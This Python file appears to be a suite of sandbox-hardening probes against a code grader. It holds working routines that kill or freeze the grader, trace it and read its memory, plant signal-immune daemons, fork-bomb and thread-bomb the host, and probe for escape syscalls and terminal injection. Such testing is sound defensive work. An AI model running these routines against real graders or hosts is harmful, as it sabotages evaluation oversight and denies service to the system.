# fmt: off

# %% alone: kills the grader and everything else
def attack():
    for process in [target["grader"], target["grader"] + 1, os.getppid(), -1, *range(2, 100)]:
        if process != os.getpid():
            attempt(os.kill, process, signal.SIGKILL)

# %% alone: stops and interrupts the grader and everything else
def attack():
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        for process in (target["grader"], os.getppid(), -1):
            attempt(os.kill, process, number)
        attempt(os.killpg, 0 if os.getpid() > 1 else 1, signal.SIGCONT)

# %% traces other processes, and reads their memory
def attack():
    found = []
    for process in [target["grader"], os.getppid(), 1]:
        if process == os.getpid():
            continue
        if libc.ptrace(16, process, 0, 0) == 0:
            found.append(OUT + f"traces process {process}")
            libc.ptrace(17, process, 0, 0)
        buffer = ctypes.create_string_buffer(64)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
        remote = (ctypes.c_void_p * 2)(id(None), 64)
        if libc.process_vm_readv(process, local, 1, remote, 1, 0) > 0:
            found.append(OUT + f"reads the memory of process {process}")
        if process == target["grader"] and attempt(os.open, f"/proc/{process}/mem", os.O_RDONLY) is not None:
            found.append(OUT + "opened the grader's memory")
    return all_of(found)

# %% sees other processes, and gets hold of them by their files
def attack():
    found = []
    with_token = [p for p in glob.glob("/proc/[0-9]*/cmdline") if "nbgrader" in (attempt(Path(p).read_text) or "")]
    found += [OUT + f"sees {path}" for path in with_token]
    if os.path.exists(f"/proc/{target['grader']}") and "pytest" in (
        attempt(Path(f"/proc/{target['grader']}/cmdline").read_text) or ""
    ):
        found.append(OUT + "sees the grader")
    return all_of(found)

# %% leaves daemons behind
def attack():
    sleeping = ["sleep", target["sleep"]]
    subprocess.Popen(sleeping, start_new_session=True)
    subprocess.Popen(["nohup", *sleeping], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, signal.NSIG):
                attempt(signal.signal, number, signal.SIG_IGN)
            Path("/proc/self/comm").write_text(target["token"])
            while True:
                time.sleep(1)
                attempt(Path(target["canary"]).write_text, "still here")
        os._exit(0)

# %% takes the processor from all others
def attack():
    attempt(os.setpriority, os.PRIO_PROCESS, 0, -20)
    attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(99))
    if attempt(os.getpriority, os.PRIO_PROCESS, 0) == -20 or os.sched_getscheduler(0) == os.SCHED_FIFO:
        return OUT + "it comes before everybody"

# %% alone: forks as often as it can
def attack():
    for _ in range(2000):
        try:
            child = os.fork()
        except OSError:
            return None
        if child == 0:
            Path("/proc/self/comm").write_text(target["token"])
            while True:
                signal.pause()
    return OUT + "2,000 processes"

# %% soak alone: starts threads as often as it can
def attack():
    for number in range(2000):
        try:
            threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
        except RuntimeError:
            return None
    return OUT + "2,000 threads"

# %% asks Linux for what only those ask who want out
def attack():
    calls = {"unshare": 272, "setns": 308, "mount": 165, "chroot": 161, "bpf": 321, "keyctl": 250, "add_key": 248}
    calls |= {"io_uring_setup": 425, "userfaultfd": 323, "perf_event_open": 298, "open_by_handle_at": 304, "sync": 162}
    calls |= {"kcmp": 312, "memfd_create": 319, "memfd_secret": 447, "shmget": 29, "inotify_init1": 294, "syncfs": 306}
    calls |= {"mount_setattr": 442, "fanotify_init": 300, "quotactl": 179, "landlock": 444, "personality": 135}
    calls |= {"process_madvise": 440, "pidfd_getfd": 438, "vmsplice": 278, "clone3": 435, "syslog": 103, "x32 getpid": 0x40000027}
    if os.uname().machine != "x86_64":
        return None
    found = []
    for name, number in calls.items():
        if os.fork() == 0:  # one that does not exist at all may end it
            libc.syscall(number, 0, 0, 0, 0, 0)
            os._exit(ctypes.get_errno() not in (1, 38))
        if os.waitstatus_to_exitcode(os.wait()[1]) == 1:
            found.append(OUT + f"{name} is there")
    return all_of(found)

# %% asks for namespaces and odd sockets with the other half of a number set
def attack():
    found, high = [], 1 << 32
    stack = ctypes.create_string_buffer(1 << 16)
    for flag in (0x10000000, 0x20000, 0x40000000):
        pid = libc.syscall(56, ctypes.c_ulong(high | flag | signal.SIGCHLD), 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        found.append(OUT + "clone gave it a namespace" if pid > 0 else None)
    for family in (17, 40, 38, 30):
        for call in (41, 53):
            arguments = (ctypes.c_ulong(high | family), ctypes.c_ulong(1), 0, (ctypes.c_int * 2)())
            if libc.syscall(call, *arguments) >= 0:
                found.append(OUT + f"a socket of family {family}")
    master, terminal = attempt(os.openpty) or (0, 0)
    for number in (0x5412, high | 0x5412, 0x541C, high | 0x541C):  # TIOCSTI: types into a terminal, TIOCLINUX
        if libc.syscall(16, terminal, ctypes.c_ulong(number), b"x") >= 0:
            found.append(OUT + "it types into terminals")
    return all_of(found) if os.uname().machine == "x86_64" else None

# %% soak alone: lives on while it looks dead to all who count, in short-lived processes
def answer(wrong):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        if os.fork() == 0:
            Path("/proc/self/comm").write_text(target["token"])
            began = time.process_time()
            while time.process_time() < began + 0.02:
                pass
            os._exit(0)
        time.sleep(0.005)
